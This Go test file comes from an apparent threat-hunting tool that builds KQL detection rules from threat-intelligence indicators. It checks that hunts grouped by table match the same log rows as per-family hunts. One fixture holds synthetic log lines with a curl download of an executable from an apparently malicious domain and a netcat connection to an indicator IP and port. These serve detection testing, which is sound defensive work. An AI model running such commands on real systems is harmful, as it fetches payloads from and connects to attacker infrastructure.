package rule_test

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"foxhound/export"
	"foxhound/indicator"
	"foxhound/internal/logs"
	"foxhound/internal/query"
	"foxhound/internal/roles"
	"foxhound/internal/schema"
	"foxhound/kql"
	"foxhound/rule"
)

func newByTable(t *testing.T, list []indicator.Indicator, form rule.Form) *rule.Rule {
	t.Helper()
	r, err := rule.ByTable(list, form, rule.Options{Dialect: schema.Sentinel, Style: rule.Exact, List: rule.List{Alias: export.Alias(rule.AllFamilies)}})
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// The text of hunts by table does not depend on the indicators, and fits.
func TestByTable(t *testing.T) {
	for _, form := range []rule.Form{rule.Watchlist, rule.Workspace} {
		r, none := newByTable(t, remusIndicators(t), form), newByTable(t, nil, form)
		if len(r.Hunts) < 12 || len(r.Hunts) > 20 || len(r.Hunts) != len(none.Hunts) {
			t.Errorf("%s: %d hunts, %d without indicators; about a dozen are wanted", form, len(r.Hunts), len(none.Hunts))
		}
		names := map[string]bool{}
		for i, h := range r.Hunts {
			if h.Text != none.Hunts[i].Text || h.Form != form || names[h.Name] {
				t.Errorf("%s: hunt %s of form %s depends on indicators, or its name is taken", form, h.Name, h.Form)
			}
			names[h.Name] = true
			if n := len(kql.Print(h.Alerting())); n > rule.MaxLength {
				t.Errorf("%s: %d characters", h.Name, n)
			}
			if strings.Contains(h.Text, "Terms") || strings.Contains(h.Text, "datatable") {
				t.Errorf("%s carries indicators:\n%s", h.Name, h.Text)
			}
		}
	}
}

func TestByTableRefuses(t *testing.T) {
	for _, tt := range []struct {
		form rule.Form
		opts rule.Options
	}{
		{rule.Full, rule.Options{Dialect: schema.Sentinel, Style: rule.Exact}},
		{rule.External, rule.Options{Dialect: schema.Sentinel, Style: rule.Exact}},
		{rule.Watchlist, rule.Options{Dialect: schema.Defender, Style: rule.Exact}},
		{rule.Watchlist, rule.Options{Dialect: schema.Sentinel, Style: rule.Classic}},
		{rule.Watchlist, rule.Options{}},
	} {
		if _, err := rule.ByTable(nil, tt.form, tt.opts); err == nil {
			t.Errorf("form %s, options %+v: no error", tt.form, tt.opts)
		}
	}
}

// Hunts by table find what the family's own hunts find in the same places, row by row, whether
// the indicators are in a watchlist or in the workspace's table.
func TestByTableFindsWhatFamiliesFind(t *testing.T) {
	dir := t.TempDir()
	own := newRule(t, remus, remusIndicators(t), schema.Sentinel, rule.Exact)
	for _, form := range []rule.Form{rule.Watchlist, rule.Workspace} {
		all := newByTable(t, remusIndicators(t), form)
		e := engineWith(t, dir, all)
		found := 0
		for i := range all.Hunts {
			h := &all.Hunts[i]
			at := slices.IndexFunc(own.Hunts, func(o rule.Hunt) bool { return o.Table == h.Table && o.Key == h.Key })
			if at < 0 {
				continue // the family has no indicator of the sort
			}
			there, here := rowsOf(t, e, own.Hunts[at].Text), rowsOf(t, e, h.Text)
			found += len(here)
			for _, row := range there {
				if typed(h.Table, row.field) && !slices.Contains(here, row.over(form)) {
					t.Errorf("%s, %s: not found: %+v among %+v", form, h.Name, row, here)
				}
			}
			for _, row := range here {
				if !slices.ContainsFunc(there, func(o sighting) bool { return o.at == row.at && o.observed == row.observed }) {
					t.Errorf("%s, %s: found only by table: %+v", form, h.Name, row)
				}
			}
		}
		if found < 15 {
			t.Errorf("%s: %d rows found: too few to compare", form, found)
		}
	}
}

// A family that has too many indicators for its hunts is found by a list as it would be by the
// hunts that carry it, row by row, free text included.
func TestMovedFindsWhatCarriedFinds(t *testing.T) {
	list := append(remusIndicators(t), manyIndicators(t, 120)...)
	for _, at := range []struct {
		dialect schema.Dialect
		form    rule.Form
	}{{schema.Sentinel, rule.Watchlist}, {schema.Defender, rule.External}} {
		own := newRule(t, remus, list, at.dialect, rule.Exact)
		opts := own.Options
		opts.List = rule.List{Alias: export.Alias(rule.AllFamilies), Address: address}
		moved, err := rule.Fit(remus, list, opts)
		if err != nil {
			t.Fatal(err)
		}
		e := engineWith(t, t.TempDir(), moved)
		there, here := map[string][]sighting{}, map[string][]sighting{}
		for i := range own.Hunts {
			h := &own.Hunts[i]
			key := h.Table + " " + string(h.Key)
			there[key] = append(there[key], rowsOf(t, e, h.Text)...)
		}
		found, text := 0, 0
		for i := range moved.Hunts {
			h := &moved.Hunts[i]
			key := h.Table + " " + string(h.Key)
			if here[key] != nil || h.Form != at.form || there[key] == nil && len(rowsOf(t, e, h.Text)) > 0 {
				t.Errorf("%s: %s of form %s, want one hunt of %s", at.dialect, h.Name, h.Form, at.form)
			}
			here[key] = rowsOf(t, e, h.Text)
			for _, row := range here[key] {
				found++
				if !typed(h.Table, row.field) {
					text++
				}
				if !slices.Contains(there[key], row) {
					t.Errorf("%s, %s: found by the list alone: %+v", at.dialect, h.Name, row)
				}
			}
			for _, row := range there[key] {
				if !slices.Contains(here[key], row) {
					t.Errorf("%s, %s: not found: %+v", at.dialect, h.Name, row)
				}
			}
		}
		if found < 5 || text == 0 {
			t.Errorf("%s: %d rows found, %d of them in free text: too few to compare", at.dialect, found, text)
		}
	}
}

// A sighting is what a row says.
type sighting struct {
	at, tier, direction, verdict, validity, value, observed, field, family string
}

// over is the row as the workspace's table tells of it, which knows no families.
func (f sighting) over(form rule.Form) sighting {
	if form == rule.Workspace {
		f.family = ""
	}
	return f
}

// typed reports whether a field is of a column that holds more than free text.
func typed(table, field string) bool {
	return slices.ContainsFunc(roles.Of(table).Columns, func(c roles.Column) bool { return c.Field() == field && c.Holds != roles.FreeText })
}

// commandLines show indicators in free text.
const commandLines = `{"Type":"DeviceProcessEvents","TimeGenerated":"2026-06-01T10:00:00Z","Timestamp":"2026-06-01T10:00:00Z","DeviceName":"ws1","ProcessCommandLine":"curl -o a.exe https://cdn.softandtec.com/a"}
{"Type":"DeviceProcessEvents","TimeGenerated":"2026-06-01T10:01:00Z","Timestamp":"2026-06-01T10:01:00Z","DeviceName":"ws1","ProcessCommandLine":"nc 80.211.47.159:7582"}
`

// engineWith runs queries over the example's logs, a watchlist and a table of indicators.
func engineWith(t *testing.T, dir string, r *rule.Rule) *query.Engine {
	t.Helper()
	files, err := export.Watchlist(r)
	if err != nil {
		t.Fatal(err)
	}
	list, table := filepath.Join(dir, "watchlist.csv"), filepath.Join(dir, "indicators.ndjson")
	if err := os.WriteFile(list, files[0].Data, 0o666); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(table, indicatorRows(t, r.Indicators), 0o666); err != nil {
		t.Fatal(err)
	}
	commands := filepath.Join(dir, "commands.ndjson")
	if err := os.WriteFile(commands, []byte(commandLines), 0o666); err != nil {
		t.Fatal(err)
	}
	sources, err := logs.Find([]string{"../examples/remus/logs", table, commands})
	if err != nil {
		t.Fatal(err)
	}
	l := &query.Logs{Sources: sources, Dialect: r.Options.Dialect, Data: map[string]string{export.Alias(rule.AllFamilies): list, address: list},
		Options: logs.Options{Tables: []logs.TableGlob{{Table: "ThreatIntelIndicators", Glob: "indicators.ndjson"}}}}
	return &query.Engine{Tables: l, Source: l, StandIn: l.StandIn, Now: time.Date(2026, 12, 1, 0, 0, 0, 0, time.UTC)}
}

// observableKeys are what the workspace's table calls kinds of observables.
var observableKeys = map[indicator.Kind]string{
	indicator.Domain: "domain-name:value", indicator.URL: "url:value", indicator.IPPort: "network-traffic:dst_ref.value",
}

// indicatorRows has each indicator twice, the older row revoked, and one that is deleted.
func indicatorRows(t *testing.T, list []indicator.Indicator) []byte {
	t.Helper()
	var b strings.Builder
	row := func(id string, day int, i *indicator.Indicator, revoked, deleted bool) {
		value := i.Value
		if i.Kind == indicator.IPPort {
			loc, _ := i.Location()
			value = loc.Host
		}
		data, err := json.Marshal(map[string]any{"TimeGenerated": fmt.Sprintf("2026-11-%02dT00:00:00Z", day), "Id": id,
			"ObservableKey": observableKeys[i.Kind], "ObservableValue": value, "IsActive": true, "IsDeleted": deleted, "Revoked": revoked,
			"ValidFrom": i.FirstSeen.Format(time.RFC3339), "Confidence": i.Confidence, "Tags": `["threatfox","` + i.ThreatType + `"]`,
			"Data": map[string]any{"name": i.Value}, "Type": "ThreatIntelIndicators"})
		if err != nil {
			t.Fatal(err)
		}
		b.Write(append(data, '\n'))
	}
	for n := range list {
		row(fmt.Sprint("indicator--", n), 20, &list[n], true, false)
		row(fmt.Sprint("indicator--", n), 29, &list[n], false, false)
	}
	gone := indicator.Indicator{Observable: indicator.Observable{Kind: indicator.Domain, Value: "corp.example"}}
	row("indicator--gone", 29, &gone, false, true)
	return []byte(b.String())
}

// rowsOf runs a hunt over all of the logs.
func rowsOf(t *testing.T, e *query.Engine, text string) []sighting {
	t.Helper()
	for _, span := range []string{"1h", "1d"} {
		text = strings.Replace(text, "let Lookback = "+span+";", "let Lookback = 3650d;", 1)
	}
	q, err := e.Prepare(t.Context(), "hunt.kql", text)
	if err != nil {
		t.Fatal(err)
	}
	b, err := q.Rows(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	list := make([]sighting, b.Rows)
	for i := range list {
		said := map[string]string{}
		for at, c := range q.Columns() {
			said[c.Name] = fmt.Sprint(b.Columns[at].Value(i))
		}
		list[i] = sighting{said["TimeGenerated"] + said["Timestamp"], said["Tier"], said["Direction"], said["Verdict"], said["Validity"],
			said["IndicatorValue"], said["Observed"], said["Field"], said["Family"]}
	}
	return list
}
